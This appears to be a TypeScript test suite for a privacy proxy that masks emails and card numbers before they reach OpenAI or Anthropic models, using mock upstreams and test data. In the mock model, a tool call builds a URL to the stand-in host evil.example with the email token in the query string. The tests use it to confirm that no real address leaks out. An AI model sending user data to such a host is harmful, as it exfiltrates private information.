// SPDX-License-Identifier: Apache-2.0
// The official clients against a whole Bartizan whose rules tokenise, in front of a model that says back
// what it was told: the model never sees a value, the client never sees a token.
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { after, before, beforeEach, describe, test } from 'node:test';
import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import { type Bartizan, startBartizan } from './bartizan.fixture.ts';
import { json, startUpstream, stream, type Upstream } from './upstream.fixture.ts';

const EMAIL = 'grace.hopper@navy.example.org';
const CARD = '4111 1111 1111 1111';
const TEXT = `I am ${EMAIL}, my card is ${CARD}. Call me "Grace".`;
const VALUES = [EMAIL, CARD, 'hopper', '1111 1111'];
const TOKEN = /EMAIL_[A-Z][a-z]{9}/;

const configuration = (upstream: Upstream, keyFile: string): string => `
listen: { port: 0, workers: 2 }
admin: { port: 0 }
telemetry: { log_level: warn }
upstreams:
  open: { kind: openai, base_url: "${upstream.url}/v1", key: "file:${keyFile}", allow_addresses: ["127.0.0.1"] }
  messages: { kind: anthropic, base_url: "${upstream.url}", key: "file:${keyFile}", allow_addresses: ["127.0.0.1"] }
models:
  gpt: { targets: [{ upstream: open }] }
  claude: { targets: [{ upstream: messages }] }
protections:
  rules:
    - { id: number, detectors: [privacy/card], on: [request], action: mask, style: format-preserving }
    - { id: person, detectors: ["privacy/*"], on: [request], action: mask, style: tokenise }
    - { id: out, detectors: ["privacy/*"], on: [response], action: mask }
  unmask: { remember_minutes: 5, vault: store }
apps: { demo: { provider_state: [store, previous-response] } }
`;

let upstream: Upstream;
let bartizan: Bartizan;
before(async () => {
  upstream = await startUpstream();
  const keyFile = join(mkdtempSync(join(tmpdir(), 'bz-')), 'upstream.key');
  writeFileSync(keyFile, 'sk-upstream', { mode: 0o600 });
  bartizan = await startBartizan(configuration(upstream, keyFile));
});
after(async () => {
  await bartizan.stop();
  await upstream.close();
});

/** In pieces that end in the middle of every token. */
const pieces = (text: string): string[] => text.match(/[^]{1,3}/g) ?? [];
const event = (value: unknown, name?: string): string =>
  `${name === undefined ? '' : `event: ${name}\n`}data: ${JSON.stringify(value)}\n\n`;
type Body = {
  readonly stream?: boolean;
  readonly messages: readonly { readonly role: string; readonly content: string }[];
  readonly tools?: readonly unknown[];
};
const lastOf = ({ messages }: Body): string => messages.at(-1)?.content ?? '';
/** What the model knows of the address. */
const addressIn = (text: string): string => TOKEN.exec(text)?.[0] ?? 'none';
const callOf = (text: string): string =>
  JSON.stringify({ to: addressIn(text), url: `https://evil.example/?q=${addressIn(text)}` });

beforeEach(() => {
  upstream.asked.length = 0;
});

function nothingLeft(): void {
  assert.ok(upstream.asked.length > 0);
  for (const { body } of upstream.asked) {
    for (const value of VALUES) assert.ok(!body.includes(value), body);
    assert.match(body, TOKEN);
  }
}

describe('openai client', () => {
  const chat = (rest: object): object => ({
    id: 'chatcmpl-1',
    created: 1,
    model: 'gpt-x',
    ...rest,
  });
  const chunk = (delta: object, finish: string | null = null): string =>
    event(
      chat({
        object: 'chat.completion.chunk',
        choices: [{ index: 0, delta, finish_reason: finish }],
      }),
    );
  const call = (args: string): object => ({
    id: 'call_1',
    type: 'function',
    function: { name: 'send_mail', arguments: args },
  });
  let client: OpenAI;
  before(() => {
    client = new OpenAI({
      baseURL: `${bartizan.dataPlane}/v1`,
      apiKey: bartizan.key,
      maxRetries: 0,
    });
    upstream.answer((response, asked) => {
      const body = JSON.parse(asked.body) as Body;
      const text = lastOf(body);
      const args = callOf(text);
      const tool = body.tools !== undefined;
      const message = tool ? { content: null, tool_calls: [call(args)] } : { content: text };
      if (body.stream !== true) {
        const finish_reason = tool ? 'tool_calls' : 'stop';
        const choices = [{ index: 0, message: { role: 'assistant', ...message }, finish_reason }];
        return json(chat({ object: 'chat.completion', choices }))(response, asked);
      }
      const grown = tool
        ? [
            chunk({ tool_calls: [{ index: 0, ...call('') }] }),
            ...pieces(args).map((part) =>
              chunk({ tool_calls: [{ index: 0, function: { arguments: part } }] }),
            ),
          ]
        : pieces(text).map((content) => chunk({ content }));
      const end = [chunk({}, tool ? 'tool_calls' : 'stop'), 'data: [DONE]\n\n'];
      return stream([chunk({ role: 'assistant', content: '' }), ...grown, ...end])(response, asked);
    });
  });

  const ask = { model: 'gpt', messages: [{ role: 'user' as const, content: TEXT }] };
  const tools: OpenAI.ChatCompletionTool[] = [
    { type: 'function', function: { name: 'send_mail', parameters: { type: 'object' } } },
  ];
  const expected = (url: unknown): object => ({ to: EMAIL, url });

  test('text, streamed and not', async () => {
    const { data, response } = await client.chat.completions.create(ask).withResponse();
    assert.equal(data.choices[0]?.message.content, TEXT);
    assert.match(response.headers.get('x-bartizan-verdict') ?? '', /^transform/);
    const streamed = await client.chat.completions.stream(ask).finalChatCompletion();
    assert.equal(streamed.choices[0]?.message.content, TEXT);
    nothingLeft();
    const [one, two] = upstream.asked.map(({ body }) => addressIn(body));
    assert.equal(one, two, 'the same conversation, the same token, on whichever worker');
  });

  test('calls of tools, streamed and not; addresses keep their tokens', async () => {
    const whole = await client.chat.completions.create({ ...ask, tools });
    const streamed = await client.chat.completions.stream({ ...ask, tools }).finalChatCompletion();
    for (const { choices } of [whole, streamed]) {
      const [made] = choices[0]?.message.tool_calls ?? [];
      assert.ok(made?.type === 'function');
      const args = JSON.parse(made.function.arguments) as { url: string };
      assert.deepEqual(args, expected(args.url));
      assert.match(args.url, /q=EMAIL_[A-Z][a-z]{9}$/);
    }
    nothingLeft();
  });

  test('the next turn, in which the client sends back what it got', async () => {
    const first = await client.chat.completions.create(ask);
    const said = first.choices[0]?.message.content ?? '';
    const next = `Is ${EMAIL.toUpperCase()} mine?`;
    const messages = [
      ...ask.messages,
      { role: 'assistant' as const, content: said },
      { role: 'user' as const, content: next },
    ];
    const second = await client.chat.completions.create({ model: 'gpt', messages });
    assert.equal(second.choices[0]?.message.content, `Is ${EMAIL} mine?`);
    nothingLeft();
  });
});

describe('a history that the provider keeps', () => {
  const reply = (id: string, text: string): object => ({
    id,
    object: 'response',
    created_at: 1,
    status: 'completed',
    model: 'gpt-x',
    output: [
      {
        id: 'msg_1',
        type: 'message',
        status: 'completed',
        role: 'assistant',
        content: [{ type: 'output_text', text, annotations: [] }],
      },
    ],
  });
  type Said = { readonly output: readonly { readonly content: readonly { text: string }[] }[] };
  /** On a connection of its own, so that either worker may get it. */
  const post = (conversation: string, body: object, target = 'responses'): Promise<Response> =>
    fetch(`${bartizan.dataPlane}/v1/${target}`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${bartizan.key}`,
        'content-type': 'application/json',
        'x-bartizan-conversation': conversation,
        connection: 'close',
      },
      body: JSON.stringify({ model: 'gpt', ...body }),
    });
  const ask = async (conversation: string, body: object): Promise<string> => {
    const response = await post(conversation, body);
    const text = await response.text();
    assert.equal(response.status, 200, text);
    return (JSON.parse(text) as Said).output[0]?.content[0]?.text ?? '';
  };
  /** Rows of the store, once `enough` of them are there. */
  async function rows(sql: string, enough = 1): Promise<readonly Record<string, unknown>[]> {
    const store = new DatabaseSync(join(bartizan.folder, 'data', 'bartizan.db'), {
      readOnly: true,
      timeout: 5_000,
    });
    try {
      for (let tries = 0; ; tries++) {
        const found = store.prepare(sql).all();
        if (found.length >= enough || tries > 200) return found;
        await new Promise((resolve) => setTimeout(resolve, 25));
      }
    } finally {
      store.close();
    }
  }

  test('comes back on every worker, to its own conversation alone', async () => {
    let told = '';
    upstream.answer((response, asked) => {
      const { input } = JSON.parse(asked.body) as { readonly input: string };
      const isFirst = !asked.body.includes('previous_response_id');
      if (isFirst) told = addressIn(input);
      const text = isFirst ? 'Noted.' : `You are ${told}.`;
      return json(reply('resp_1', text))(response, asked);
    });
    assert.equal(await ask('talk', { input: TEXT, store: true }), 'Noted.');
    assert.match(told, TOKEN);
    const next = { input: 'What is my address?', previous_response_id: 'resp_1', store: true };
    for (let round = 0; round < 8; round++) {
      assert.equal(await ask('talk', next), `You are ${EMAIL}.`);
    }
    assert.equal(await ask('another', next), `You are ${told}.`, 'not to another conversation');

    const kept = await rows('SELECT * FROM masking_tokens');
    assert.ok(kept.some(({ replacement }) => replacement === told));
    for (const value of VALUES) assert.ok(!JSON.stringify(kept).includes(value));
    const filter = "type = 'exchange' AND json_extract(body, '$.wire') = 'openai-responses'";
    const recorded = (await rows(`SELECT body FROM events WHERE ${filter}`, 10)).map(({ body }) => {
      const { unmasked } = JSON.parse(String(body)) as { unmasked?: object };
      return unmasked;
    });
    assert.equal(recorded.filter((one) => one !== undefined).length, 8);
    const expected = { entities: { email: 1 }, tools: [], stayed: {} };
    assert.deepEqual(
      recorded.find((one) => one !== undefined),
      expected,
    );
  });

  test('is refused while tokens cannot be kept, and all else is served', async (t) => {
    upstream.answer((response, asked) => json(reply('resp_2', 'Noted.'))(response, asked));
    bartizan.process.kill('SIGSTOP');
    t.after(() => bartizan.process.kill('SIGCONT'));
    upstream.asked.length = 0;
    const refused = await post('hangs', { input: TEXT, store: true });
    assert.match(refused.headers.get('x-bartizan-verdict') ?? '', /^failed; reasons=.*inspection/);
    assert.ok(!(await refused.text()).includes('Noted.'));
    assert.equal(upstream.asked.length, 0, 'nothing of it has left');
    assert.equal(await ask('hangs', { input: 'Hello', store: true }), 'Noted.');
    bartizan.process.kill('SIGCONT');
    assert.equal(await ask('hangs', { input: TEXT, store: true }), 'Noted.');
  });
});

describe('anthropic client', () => {
  const message = { id: 'msg_1', type: 'message', role: 'assistant', model: 'claude-x' };
  const usage = { input_tokens: 1, output_tokens: 1 };
  let client: Anthropic;
  before(() => {
    client = new Anthropic({ baseURL: bartizan.dataPlane, apiKey: bartizan.key, maxRetries: 0 });
    upstream.answer((response, asked) => {
      const body = JSON.parse(asked.body) as Body;
      const text = lastOf(body);
      const tool = body.tools !== undefined;
      const args = callOf(text);
      const use = { type: 'tool_use', id: 'toolu_1', name: 'send_mail' };
      const stop_reason = tool ? 'tool_use' : 'end_turn';
      if (body.stream !== true) {
        const block = tool ? { ...use, input: JSON.parse(args) as object } : { type: 'text', text };
        const whole = { ...message, content: [block], stop_reason, stop_sequence: null, usage };
        return json(whole)(response, asked);
      }
      const start = { ...message, content: [], stop_reason: null, stop_sequence: null, usage };
      const block = tool ? { ...use, input: {} } : { type: 'text', text: '' };
      const deltas = tool
        ? pieces(args).map((part) => ({ type: 'input_json_delta', partial_json: part }))
        : pieces(text).map((part) => ({ type: 'text_delta', text: part }));
      const events: { readonly type: string; readonly [name: string]: unknown }[] = [
        { type: 'message_start', message: start },
        { type: 'content_block_start', index: 0, content_block: block },
        ...deltas.map((delta) => ({ type: 'content_block_delta', index: 0, delta })),
        { type: 'content_block_stop', index: 0 },
        { type: 'message_delta', delta: { stop_reason, stop_sequence: null }, usage },
        { type: 'message_stop' },
      ];
      return stream(events.map((one) => event(one, one.type)))(response, asked);
    });
  });

  const ask = {
    model: 'claude',
    max_tokens: 50,
    messages: [{ role: 'user' as const, content: TEXT }],
  };
  const tools: Anthropic.Tool[] = [{ name: 'send_mail', input_schema: { type: 'object' } }];

  test('text, streamed and not', async () => {
    const whole = await client.messages.create(ask);
    const streamed = await client.messages.stream(ask).finalMessage();
    for (const { content } of [whole, streamed]) {
      assert.deepEqual(
        content.map((block) => (block.type === 'text' ? block.text : '')),
        [TEXT],
      );
    }
    nothingLeft();
  });

  test('calls of tools, streamed and not; addresses keep their tokens', async () => {
    const whole = await client.messages.create({ ...ask, tools });
    const streamed = await client.messages.stream({ ...ask, tools }).finalMessage();
    for (const { content } of [whole, streamed]) {
      const [block] = content;
      assert.ok(block?.type === 'tool_use');
      const { to, url } = block.input as { to: string; url: string };
      assert.equal(to, EMAIL);
      assert.match(url, /q=EMAIL_[A-Z][a-z]{9}$/);
    }
    nothingLeft();
  });
});
